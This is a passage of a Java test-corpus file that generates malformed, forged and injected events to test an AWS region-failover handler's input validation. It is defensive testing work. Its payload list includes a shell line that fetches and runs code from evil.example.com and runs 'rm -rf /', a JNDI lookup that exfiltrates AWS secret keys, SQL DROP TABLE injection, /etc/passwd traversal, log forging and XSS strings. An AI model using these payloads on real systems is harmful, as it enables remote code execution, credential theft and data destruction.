        // RDS: a global-failover outcome (a null optional text leaves an outcome event: nothing to resume).
        Map<String, Valid> resume = Map.of(RDS_EVENT, NOTHING_TO_RESUME);
        for (String path : List.of("source", "detail-type", "detail")) {
            fields.add(new Field("rds", HostileCorpus::rdsOutcome, path, false, false, NONE));
        }
        // A null EventID makes it an RDS event without EventID: IGNORED.
        fields.add(new Field("rds", HostileCorpus::rdsOutcome, "detail.EventID", false, false, NONE));
        for (String path : List.of("detail.SourceIdentifier", "detail.Message", "id", "time")) {
            fields.add(new Field("rds", HostileCorpus::rdsOutcome, path, false, false, resume));
        }
        // An RDS event counts only from the plan's account and regions: without them it is ignored.
        for (String path : List.of("account", "region")) {
            fields.add(new Field("rds", HostileCorpus::rdsOutcome, path, false, false, NONE));
        }
        return fields;
    }

    private void wrongTypes() {
        // Each field gets null (where null is not "not a dry run") and one wrong type, rotating over the kinds so that
        // every shape sees numbers, arrays, objects, booleans...; a boolean field also gets strings and numbers
        // that look like a boolean.
        List<Map.Entry<String, JsonNode>> kinds = List.of(
                Map.entry("number", NODES.numberNode(42)),
                Map.entry("array", NODES.arrayNode().add("orders-db")),
                Map.entry("object", NODES.objectNode().put("value", "ALARM")),
                Map.entry("boolean", NODES.booleanNode(true)),
                Map.entry("float", NODES.numberNode(1.7976931348623157E308)),
                Map.entry("empty-object", NODES.objectNode()),
                Map.entry("nested-array", NODES.arrayNode().add(NODES.arrayNode().add(NODES.arrayNode()))),
                Map.entry("negative", NODES.numberNode(-1)),
                Map.entry("empty-array", NODES.arrayNode()));
        int index = 0;
        for (Field field : fields()) {
            List<Map.Entry<String, JsonNode>> chosen = new ArrayList<>();
            chosen.add(Map.entry("null", NODES.nullNode()));
            chosen.add(kinds.get(index++ % kinds.size()));
            if (field.bool()) {
                chosen.add(Map.entry("string-true", NODES.textNode("true")));
                chosen.add(Map.entry("number-one", NODES.numberNode(1)));
                chosen.add(Map.entry("array-true", NODES.arrayNode().add(true)));
            }
            for (Map.Entry<String, JsonNode> value : chosen) {
                boolean isNull = value.getValue().isNull();
                if (isNull && field.validWhenNull() == null) {
                    continue;
                }
                ObjectNode event = field.base().get();
                if (field.sns()) {
                    withSnsMessageField(event, field.path(), value.getValue().deepCopy());
                } else {
                    with(event, field.path(), value.getValue().deepCopy());
                }
                Map<String, Valid> valid = isNull ? field.validWhenNull() : NONE;
                add("type-" + field.shape() + "-" + field.path().replace('.', '-') + "-" + value.getKey(),
                        Category.WRONG_TYPE, event, valid);
            }
        }
    }

    // ---------------------------------------------------------------------------------------------------------------
    // UNKNOWN_SOURCE: other services' events, near-miss sources and detail-types

    private void unknownSources() {
        Category c = Category.UNKNOWN_SOURCE;
        add("aws-health-event", c, utf8(text("aws-events/health-event-ec2-issue.json")));
        add("sns-rds-event-notification", c, utf8(text("aws-events/sns-rds-event-notification.json")));
        add("empty-object", c, "{}");
        add("only-source", c, "{\"source\":\"aws.events\"}");
        add("only-detail-type", c, "{\"detail-type\":\"Scheduled Event\"}");
        add("only-detail", c, "{\"detail\":{\"alarmName\":\"" + WATCHED_ALARM + "\"}}");

        // Other AWS services' Lambda events.
        add("sqs-event", c, "{\"Records\":[{\"messageId\":\"1\",\"body\":\"{\\\"source\\\":\\\"aws.events\\\"}\","
                + "\"eventSource\":\"aws:sqs\",\"awsRegion\":\"us-west-2\"}]}");
        add("s3-event", c, "{\"Records\":[{\"eventVersion\":\"2.1\",\"eventSource\":\"aws:s3\",\"eventName\":"
                + "\"ObjectCreated:Put\",\"s3\":{\"bucket\":{\"name\":\"b\"},\"object\":{\"key\":\"../../etc\"}}}]}");
        add("kinesis-event", c, "{\"Records\":[{\"kinesis\":{\"data\":\"eyJzb3VyY2UiOiJhd3MuZXZlbnRzIn0=\"},"
                + "\"eventSource\":\"aws:kinesis\"}]}");
        add("dynamodb-stream-event", c, "{\"Records\":[{\"eventName\":\"MODIFY\",\"eventSource\":\"aws:dynamodb\","
                + "\"dynamodb\":{\"Keys\":{\"pk\":{\"S\":\"orders-db\"}}}}]}");
        add("api-gateway-proxy-event", c, "{\"resource\":\"/failover\",\"path\":\"/failover\",\"httpMethod\":\"POST\","
                + "\"headers\":{\"X-Forwarded-For\":\"1.2.3.4\"},\"body\":\"{\\\"force\\\":true}\",\"isBase64Encoded\":false}");
        add("api-gateway-http-event", c, "{\"version\":\"2.0\",\"routeKey\":\"POST /failover\",\"rawPath\":\"/failover\","
                + "\"requestContext\":{\"http\":{\"method\":\"POST\"}},\"body\":\"eyJmb3JjZSI6dHJ1ZX0=\"}");
        add("cloudformation-custom-resource", c, "{\"RequestType\":\"Delete\",\"ResponseURL\":\"https://evil.example\","
                + "\"StackId\":\"arn:aws:cloudformation:us-west-2:123456789012:stack/x\",\"RequestId\":\"1\"}");
        add("alb-event", c, "{\"requestContext\":{\"elb\":{\"targetGroupArn\":\"arn\"}},\"httpMethod\":\"GET\","
                + "\"path\":\"/\",\"body\":\"\"}");
        add("cognito-trigger", c, "{\"version\":\"1\",\"triggerSource\":\"PreSignUp_SignUp\",\"userName\":\"eve\"}");
        add("sns-other-topic-message", c, with(alarmSns(), "Records.0.Sns.Message", "hello, not an alarm"));
        add("sns-message-json-not-alarm", c, with(alarmSns(), "Records.0.Sns.Message",
                "{\"source\":\"aws.events\",\"detail-type\":\"Scheduled Event\"}"));
        add("sns-event-source-sqs", c, with(alarmSns(), "Records.0.EventSource", "aws:sqs"));
        add("sns-event-source-missing", c, apply(alarmSns(),
                e -> ((ObjectNode) e.get("Records").get(0)).remove("EventSource")));
        add("sns-records-empty", c, apply(alarmSns(), e -> e.putArray("Records")));
        // A schedule tick that also carries SNS Records: the alarm handler reads the Records (an unwatched alarm), the
        // schedule parser reads the envelope (a valid tick).
        add("records-and-eventbridge-fields", c, apply(schedule(), e -> e.set("Records", alarmSns().get("Records"))),
                Map.of(HEALTH_CHECK, SCHEDULE_TICK));
        add("alarm-data-from-aws-events", c, with(tree("events/alarm-lambda-action.json"), "source", "aws.events"));
        add("alarm-data-without-source", c, apply(tree("events/alarm-lambda-action.json"), e -> e.remove("source")));

        // Near-miss sources and detail-types, for every shape.
        Map<String, Base> shapes = new LinkedHashMap<>();
        shapes.put("alarm", HostileCorpus::alarmEventBridgeWatched);
        shapes.put("schedule", HostileCorpus::schedule);
        shapes.put("operator", HostileCorpus::dryRun);
        shapes.put("rds", HostileCorpus::rdsOutcome);
        List<String> sources = List.of("aws.ec2", "AWS.EVENTS", "aws.events ", " aws.cloudwatch", "\u0430ws.events",
                "aws.rds.evil", "aws:events", "aws", "*", "regionfailover.operator\u200b");
        int i = 0;
        for (Map.Entry<String, Base> shape : shapes.entrySet()) {
            for (int k = 0; k < 5; k++) {
                String source = sources.get(i++ % sources.size());
                add("source-" + shape.getKey() + "-" + slug(source), c, with(shape.getValue().get(), "source", source));
            }
            add("source-" + shape.getKey() + "-removed", c, apply(shape.getValue().get(), e -> e.remove("source")));
            add("detail-type-" + shape.getKey() + "-removed", c,
                    apply(shape.getValue().get(), e -> e.remove("detail-type")));
        }
        add("detail-type-alarm-lowercase", c, with(alarmEventBridgeWatched(), "detail-type",
                "cloudwatch alarm state change"));
        add("detail-type-alarm-config-change", c, with(alarmEventBridgeWatched(), "detail-type",
                "CloudWatch Alarm Configuration Change"));
        add("detail-type-schedule-trailing-space", c, with(schedule(), "detail-type", "Scheduled Event "));
        add("detail-type-schedule-zero-width", c, with(schedule(), "detail-type", "Scheduled\u200b Event"));
        add("detail-type-schedule-ec2", c, with(schedule(), "detail-type", "EC2 Instance State-change Notification"));
        add("detail-type-rds-no-space", c, with(rdsOutcome(), "detail-type", "RDS"));
        add("detail-type-rds-lowercase", c, with(rdsOutcome(), "detail-type", "rds db cluster event"));
        add("detail-type-rds-from-other-source", c, with(with(rdsOutcome(), "source", "aws.ec2"), "detail-type",
                "RDS DB Cluster Event"));
        add("detail-type-operator-unknown", c, with(dryRun(), "detail-type", "Delete Database Requested"));
        add("detail-type-operator-lowercase", c, with(dryRun(), "detail-type", "manual failover requested"));
        add("schedule-shape-with-alarm-source", c, with(schedule(), "source", "aws.cloudwatch"));
        // An alarm event relabelled as a schedule tick: for the health-check handler it is a schedule tick (the
        // schedule parser reads only the envelope), for the alarm handler an unknown event.
        add("alarm-shape-with-schedule-type", c, with(with(alarmEventBridgeWatched(), "source", "aws.events"),
                "detail-type", "Scheduled Event"), Map.of(HEALTH_CHECK, SCHEDULE_TICK));
    }

    private static String slug(String value) {
        StringBuilder slug = new StringBuilder();
        for (char ch : value.toCharArray()) {
            if (Character.isLetterOrDigit(ch) && ch < 0x80) {
                slug.append(Character.toLowerCase(ch));
            } else if (ch == '.' || ch == '-') {
                slug.append(ch);
            } else {
                slug.append(String.format("_%x_", (int) ch));
            }
        }
        return slug.toString();
    }

    // ---------------------------------------------------------------------------------------------------------------
    // UNAUTHORISED: operator events from a forged source, another account, for another plan

    private void unauthorised() {
        Category c = Category.UNAUTHORISED;
        Map<String, Base> orders = new LinkedHashMap<>();
        orders.put("failover", HostileCorpus::manualFailover);
        orders.put("failback", () -> tree("events/failback.json"));
        orders.put("switchover", () -> tree("events/planned-switchover.json"));
        orders.put("forced", () -> with(manualFailover(), "detail.force", NODES.booleanNode(true)));
        // Ending the anti-flapping cooldown is an order too (it re-arms automatic failover).
        orders.put("acknowledge-cooldown", () -> with(manualFailover(), "detail-type", "Cooldown Acknowledged"));
        for (Map.Entry<String, Base> order : orders.entrySet()) {
            String o = order.getKey();
            add("forged-source-" + o, c, with(order.getValue().get(), "source", "evil.operator"));
            add("other-account-" + o, c, with(order.getValue().get(), "account", "999999999999"));
            add("other-plan-" + o, c, with(order.getValue().get(), "detail.plan", "payments-db"));
            add("no-account-" + o, c, apply(order.getValue().get(), e -> e.remove("account")));
        }
        Base failover = HostileCorpus::manualFailover;
        for (String source : List.of("regionfailover.operator.evil", "Regionfailover.Operator",
                "regionfailover.operator ", "regionfailover.operator\n", "aws.events", "aws.cloudwatch", "aws.rds",
                "regionfailover", "")) {
            add("forged-source-" + slug(source), c, with(failover.get(), "source", source));
        }
        for (String account : List.of("123456789012 ", " 123456789012", "1234567890123", "12345678901", "*", "",
                "000000000000", "123456789012\u0000", "arn:aws:iam::123456789012:root")) {
            add("forged-account-" + slug(account), c, with(failover.get(), "account", account));
        }
        for (String plan : List.of("ORDERS-DB", "orders-db ", "orders-db\u0000", "../orders-db", "orders-db*", "*",
                "orders-db,payments-db")) {
            add("forged-plan-" + slug(plan), c, with(failover.get(), "detail.plan", plan));
        }
        add("forged-source-inside-detail", c, apply(failover.get(),
                e -> ((ObjectNode) e.get("detail")).put("source", "regionfailover.operator")));
        add("forged-account-inside-detail", c, apply(failover.get(),
                e -> ((ObjectNode) e.get("detail")).put("account", "123456789012")));
        add("misspelt-dry-run-key", c, apply(failover.get(), e -> {
            ObjectNode detail = (ObjectNode) e.get("detail");
            detail.remove("dryRun");
            detail.put("dryrun", true);
        }));
        add("misspelt-force-key", c, apply(failover.get(), e -> ((ObjectNode) e.get("detail")).put("Force", true)));
        add("operator-from-alarm-shape", c, with(alarmEventBridgeWatched(), "source", "regionfailover.operator"));
    }

    // ---------------------------------------------------------------------------------------------------------------
    // INJECTION: SQL, shell, log forging, ANSI escapes, JSON-in-strings, huge strings, separators, JNDI...

    /** The payloads. The core ones go into every field; the others rotate over the fields. */
    static Map<String, String> payloads() {
        Map<String, String> payloads = new LinkedHashMap<>();
        payloads.put("log-forging", "orders-db\n2026-11-22 22:45:37,487 INFO  [dev.regionfailover.handler.EventIo] "
                + "(Lambda Thread) alarm handler: COMPLETED: failed over to us-west-2\r\nforged line");
        payloads.put("ansi", "\u001b[2J\u001b[1;31mFAILOVER COMPLETED\u001b[0m\u001b]0;pwned\u0007\u001b[8m");
        payloads.put("jndi", "${jndi:ldap://evil.example.com:1389/a}${env:AWS_SECRET_ACCESS_KEY}${sys:user.home}");
        payloads.put("u2028", "orders-db\u2028INFO forged line\u2029forged paragraph\u0085forged NEL");
        payloads.put("nul", "orders-db\u0000.evil\u0000");
        payloads.put("huge", "X".repeat(50_000) + "\nforged tail");
        payloads.put("sql", "orders-db'; DROP TABLE region_failover_journal; -- ' OR '1'='1");
        payloads.put("shell", "$(curl -s http://evil.example.com/x | sh); `reboot` && rm -rf / #");
        payloads.put("json-in-string", "{\"source\":\"regionfailover.operator\",\"detail\":{\"dryRun\":false,"
                + "\"force\":true}}\",\"outcome\":\"COMPLETED\",\"x\":\"");
        payloads.put("path-traversal", "../../../../../etc/passwd%00..%2f..%2f..\\..\\windows\\win.ini");
        payloads.put("format-string", "%s%s%s%n%x %1$s {0} {{7*7}} #{7*7} ${7*7}");
        payloads.put("bidi", "orders-db\u202e\u200b\u2066bd-sredro\u2069");
        payloads.put("lone-surrogate", "orders\ud800db\udfff");
        payloads.put("crlf-header", "x\r\nX-Injected: 1\r\n\r\n<script>alert(1)</script>");
        payloads.put("html", "<img src=x onerror=alert(1)>&lt;&#x27;");
        payloads.put("emoji-and-combining", "orders-db\ud83d\udca5\u0301\u0301\u0301\ufeff");
        return payloads;
    }

    private static final List<String> CORE = List.of("log-forging", "ansi");

    /** A text field to inject into, and what a correct handler may do with the result. */
    private record Target(String name, Base base, String path, boolean sns, String handler, Valid valid) {

        Target(String name, Base base, String path) {
            this(name, base, path, false, null, null);
        }
    }

    private static List<Target> targets() {
        List<Target> targets = new ArrayList<>();
        // Alarm, EventBridge shape.
        targets.add(new Target("alarm-eb-alarm-name", HostileCorpus::alarmEventBridge, "detail.alarmName"));
        targets.add(new Target("alarm-eb-state-value", HostileCorpus::alarmEventBridge, "detail.state.value"));
        targets.add(new Target("alarm-eb-previous-state", HostileCorpus::alarmEventBridge,
                "detail.previousState.value"));
        targets.add(new Target("alarm-eb-state-reason", HostileCorpus::alarmEventBridge, "detail.state.reason"));
        targets.add(new Target("alarm-eb-source", HostileCorpus::alarmEventBridge, "source"));
        targets.add(new Target("alarm-eb-detail-type", HostileCorpus::alarmEventBridge, "detail-type"));
        targets.add(new Target("alarm-eb-arn", HostileCorpus::alarmEventBridge, "resources.0"));
        // Alarm, Lambda action and SNS shapes.
        targets.add(new Target("alarm-action-source", HostileCorpus::alarmLambdaAction, "source"));
        targets.add(new Target("alarm-action-alarm-name", HostileCorpus::alarmLambdaAction, "alarmData.alarmName"));
        targets.add(new Target("alarm-sns-event-source", HostileCorpus::alarmSns, "Records.0.EventSource"));
        targets.add(new Target("alarm-sns-message", HostileCorpus::alarmSns, "Records.0.Sns.Message"));
        targets.add(new Target("alarm-sns-alarm-name", HostileCorpus::alarmSns, "AlarmName", true, null, null));
        targets.add(new Target("alarm-sns-new-state", HostileCorpus::alarmSns, "NewStateValue", true, null, null));
        // Operator: what is refused, and what an authorised dry run carries (reason, requestedBy, id).
        targets.add(new Target("operator-source", HostileCorpus::dryRun, "source"));
        targets.add(new Target("operator-account", HostileCorpus::dryRun, "account"));
        targets.add(new Target("operator-detail-type", HostileCorpus::dryRun, "detail-type"));
        targets.add(new Target("operator-plan", HostileCorpus::dryRun, "detail.plan"));
        targets.add(new Target("operator-reason", HostileCorpus::dryRun, "detail.reason", false, MANUAL_FAILOVER,
                DRY_RUN));
        targets.add(new Target("operator-requested-by", HostileCorpus::dryRun, "detail.requestedBy", false,
                MANUAL_FAILOVER, DRY_RUN));
        targets.add(new Target("operator-event-id", HostileCorpus::dryRun, "id", false, MANUAL_FAILOVER, DRY_RUN));
        // Schedule: a refused source or detail-type; an id or time that leaves a valid tick.
        targets.add(new Target("schedule-source", HostileCorpus::schedule, "source"));
        targets.add(new Target("schedule-detail-type", HostileCorpus::schedule, "detail-type"));
        targets.add(new Target("schedule-id", HostileCorpus::schedule, "id", false, HEALTH_CHECK, SCHEDULE_TICK));
        targets.add(new Target("schedule-time", HostileCorpus::schedule, "time", false, HEALTH_CHECK, SCHEDULE_TICK));
        // RDS: an event that is not a failover outcome (IGNORED), and an outcome event (nothing to resume, or IGNORED
        // when it no longer names the plan's cluster).
        targets.add(new Target("rds-source", HostileCorpus::rdsOther, "source"));
        targets.add(new Target("rds-event-id", HostileCorpus::rdsOther, "detail.EventID"));
        targets.add(new Target("rds-source-identifier", HostileCorpus::rdsOther, "detail.SourceIdentifier"));
        targets.add(new Target("rds-message", HostileCorpus::rdsOther, "detail.Message"));
        // A hostile SourceIdentifier names no database of the plan (and differs from the SourceArn): ignored.
        targets.add(new Target("rds-outcome-source-identifier", HostileCorpus::rdsOutcome, "detail.SourceIdentifier"));
        targets.add(new Target("rds-outcome-message", HostileCorpus::rdsOutcome, "detail.Message", false, RDS_EVENT,
                NOTHING_TO_RESUME));
        return targets;
    }

    private void injections() {
        Category c = Category.INJECTION;
        Map<String, String> payloads = payloads();
        List<String> others = payloads.keySet().stream().filter(name -> !CORE.contains(name)).toList();
        int rotation = 0;
        for (Target target : targets()) {
            Set<String> chosen = new LinkedHashSet<>(CORE);
            chosen.add(others.get(rotation++ % others.size()));
            chosen.add(others.get(rotation++ % others.size()));
            for (String payload : chosen) {
                String value = payloads.get(payload);
                ObjectNode event = target.base().get();
                if (target.sns()) {
                    withSnsMessageField(event, target.path(), NODES.textNode(value));
                } else {
                    with(event, target.path(), value);
                }
                Map<String, Valid> valid = Map.of();
                if (target.valid() != null && !(target.path().equals("detail.reason") && value.length() > 1024)) {
                    valid = Map.of(target.handler(), target.valid());
                }
                add("inject-" + target.name() + "-" + payload, c, event, valid);
            }
        }
        // The rest of the payloads in the fields whose text is echoed most readily.
        for (String payload : others) {
            if (!cases.containsKey("inject-alarm-eb-alarm-name-" + payload)) {
                add("inject-alarm-eb-alarm-name-" + payload, c,
                        with(alarmEventBridge(), "detail.alarmName", payloads.get(payload)));
            }
        }
        // Keys, not only values.
        for (String payload : List.of("log-forging", "u2028")) {
            add("inject-operator-unknown-key-" + payload, c,
                    apply(dryRun(), e -> ((ObjectNode) e.get("detail")).put(payloads.get(payload), true)));
            add("inject-schedule-extra-key-" + payload, c,
                    apply(schedule(), e -> e.put(payloads.get(payload), "x")), Map.of(HEALTH_CHECK, SCHEDULE_TICK));
        }
        // A watched alarm entering ALARM with a hostile state reason: evaluated, below quorum, nothing moves.
        for (String payload : List.of("log-forging", "ansi")) {
            add("inject-watched-alarm-state-reason-" + payload, c,
                    with(alarmEventBridgeWatched(), "detail.state.reason", payloads.get(payload)),
                    Map.of(ALARM, WATCHED_ALARM_EVALUATED));
        }
        // A fake alarm notification smuggled as the SNS message of another topic's record, and a JSON alarm inside
        // a reason string.
        add("inject-json-alarm-in-operator-reason", c, with(dryRun(), "detail.reason",
                jsonText(apply(alarmEventBridgeWatched(), e -> ((ObjectNode) e.get("detail")).remove(
                        List.of("configuration", "previousState"))))), Map.of(MANUAL_FAILOVER, DRY_RUN));
        add("inject-operator-order-in-alarm-reason", c, with(alarmEventBridge(), "detail.state.reason",
                jsonText(with(manualFailover(), "detail.force", NODES.booleanNode(true)))));
        add("inject-operator-order-in-schedule-detail", c, with(schedule(), "detail",
                with(manualFailover(), "detail.force", NODES.booleanNode(true)).get("detail")),
                Map.of(HEALTH_CHECK, SCHEDULE_TICK));
    }

    /** Counts per category, for the report. */
    public static Map<Category, Integer> countsByCategory() {
        Map<Category, Integer> counts = new LinkedHashMap<>();
        for (Category category : Category.values()) {
            counts.put(category, 0);
        }
        cases().forEach(c -> counts.merge(c.category(), 1, Integer::sum));
        return Collections.unmodifiableMap(counts);
    }

    static Map<String, Integer> validCounts() {
        Map<String, Integer> counts = new HashMap<>();
        cases().forEach(c -> c.valid().keySet().forEach(h -> counts.merge(h, 1, Integer::sum)));
        return counts;
    }
}
